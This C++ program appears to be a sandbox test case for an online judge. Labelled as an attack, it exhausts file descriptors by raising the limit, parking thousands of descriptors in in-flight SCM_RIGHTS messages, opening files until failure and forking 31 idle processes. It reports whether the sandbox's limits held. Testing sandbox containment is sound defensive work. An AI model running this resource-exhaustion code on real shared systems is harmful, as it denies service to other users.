// Attack: as many open files as all its processes can hold, and more in messages that are under way.
// Verdict: accepted
#include <cerrno>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

int main() {
    struct rlimit more = {1 << 20, 1 << 20};
    bool harm = setrlimit(RLIMIT_NOFILE, &more) == 0;
    int ends[2], sent = 0, opened = 0;
    if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, ends) != 0) return 1;
    for (; sent < 10'000; sent++) {
        int file = open("/dev/zero", O_RDONLY);
        char control[CMSG_SPACE(sizeof file)] = {}, byte = 0;
        iovec data = {&byte, 1};
        msghdr message{};
        message.msg_iov = &data;
        message.msg_iovlen = 1;
        message.msg_control = control;
        message.msg_controllen = sizeof control;
        cmsghdr *head = CMSG_FIRSTHDR(&message);
        head->cmsg_level = SOL_SOCKET;
        head->cmsg_type = SCM_RIGHTS;
        head->cmsg_len = CMSG_LEN(sizeof file);
        memcpy(CMSG_DATA(head), &file, sizeof file);
        ssize_t done = sendmsg(ends[0], &message, 0);
        close(file);
        if (done == -1) break;
    }
    while (open("/dev/zero", O_RDONLY) != -1) opened++;
    for (int i = 0; i < 31; i++)
        if (fork() == 0)
            for (;;) pause();
    int n;
    if (scanf("%d", &n) == 1 && !harm && errno == EMFILE && opened < 64 && sent < 1000) printf("unharmed %d\n", n);
    else printf("opened %d, sent %d\n", opened, sent);
}
